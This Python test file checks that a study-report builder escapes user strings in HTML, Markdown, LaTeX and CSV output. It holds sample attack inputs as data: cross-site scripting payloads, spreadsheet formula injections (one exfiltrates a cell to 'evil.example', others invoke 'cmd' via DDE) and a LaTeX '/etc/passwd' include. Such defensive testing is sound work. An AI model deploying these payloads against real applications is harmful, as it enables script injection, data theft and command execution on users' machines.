"""A study's own strings (description, variant names, factor levels) cannot inject markup into the report.

The study is real (loaded and expanded, so the variant names and levels are what `ablate run`
records); its trials are written to a results folder as the recorder writes them, and the
real report builder turns that into index.html and the tables.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import yaml

from ablate.report import build
from ablate.report.build import Source, build_report
from ablate.study import expand, load_study
from ablate.study.expand import config_dict, short, trial_id

XSS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0"]  # a spreadsheet would run these as formulas
TEX = r"\input{/etc/passwd} $x^2$ & 100% #1 _a_ ~{}"
T0 = 1_700_000_000.0


class Elements(HTMLParser):
    """Every element and attribute a browser would build, and the text of each script."""

    def __init__(self):
        super().__init__()
        self.tags, self.attrs, self.scripts, self._in_script = [], [], [], False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [name for name, _ in attrs]
        self._in_script = tag == "script"
        if tag == "script":
            self.scripts.append("")

    def handle_endtag(self, tag):
        self._in_script = False if tag == "script" else self._in_script

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


def _study(tmp_path: Path):
    path = tmp_path / "xss.yaml"
    path.write_text(yaml.safe_dump({
        "name": "xss", "description": f"tricks {XSS[0]} and {XSS[1]}",
        "train": {"epochs": 2}, "scheduler": {"name": "none"},
        "factors": {"model.pretrained": [*XSS, *FORMULAS, TEX]},  # any string validates: read only when a trial builds
        "seeds": [0, 1],
    }))
    return load_study(path)


def _record(study, results: Path) -> None:
    """trials.parquet and epochs.parquet as `ablate run` writes them, for every variant and seed."""
    trials, epochs = [], []
    for i, v in enumerate(expand(study)):
        for seed in study.seeds:
            tid = trial_id(v.config, seed)
            start = T0 + 100 * len(trials)
            trials.append({"trial_id": tid, "study": study.name, "variant": v.index, "variant_name": v.name,
                           "seed": seed, "design": study.design, "overrides": json.dumps(v.overrides),
                           "config": json.dumps(config_dict(v.config)), "status": "completed",
                           "status_label": "completed", "reason": "", "epochs": 2, "final_mAP": 0.3 + 0.01 * i,
                           "started_at": start, "ended_at": start + 60, "retries": 0, "mlflow_run_id": f"r{tid}",
                           "factor.model.pretrained": short(v.overrides.get("model.pretrained"))})
            epochs += [{"trial_id": tid, "epoch": e, "mAP": 0.1 * e + 0.01 * i + 0.001 * seed, "loss": 1.0 / e}
                       for e in (1, 2)]
    folder = results / study.name
    folder.mkdir(parents=True)
    pd.DataFrame(trials).to_parquet(folder / "trials.parquet", index=False)
    pd.DataFrame(epochs).to_parquet(folder / "epochs.parquet", index=False)


def test_user_strings_are_escaped_in_the_page_and_the_tables(tmp_path, monkeypatch):
    monkeypatch.setattr(build, "_mlflow", lambda source: None)  # no tracking store: no run links, no upload
    study = _study(tmp_path)
    assert any(XSS[1] in v.name for v in expand(study))  # the payload really is a variant name
    _record(study, tmp_path / "results")
    paths = build_report(Source(study.name, study.description, tmp_path / "results"), out_dir=tmp_path / "report")

    page = paths["html"].read_text()
    parsed = Elements()
    parsed.feed(page)
    assert "img" not in parsed.tags and not [a for a in parsed.attrs if a.startswith("on")]
    assert parsed.tags.count("script") == len(parsed.scripts) == 1 + 6  # plotly.js, then one per figure
    assert all("<script" not in s and "<img" not in s for s in parsed.scripts[1:])  # figure data: \u003c-escaped
    for payload in XSS:
        assert payload not in page
    assert study.description.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;") in page

    md = paths["md"].read_text()
    assert "<script" not in md and "<img" not in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    tex = paths["tex"].read_text()
    assert "<" not in tex and r"\textless{}script\textgreater{}" in tex
    assert TEX not in tex  # the raw string nowhere: only its escaped form below
    assert r"\textbackslash{}input\{/etc/passwd\} \$x\textasciicircum{}2\$ \& 100\% \#1 \_a\_ \textasciitilde{}\{\}" in tex

    import csv

    with paths["csv"].open(newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    for formula in FORMULAS:
        assert formula not in [c for c in cells if not c.startswith("'")] and "'" + formula in cells
    assert not [c for c in cells if c and c[0] in "=+@"]  # no cell a spreadsheet would evaluate
    assert any(c.startswith("-0.") or c == "0.0" for c in cells)  # numbers stay numbers (a negative delta too)
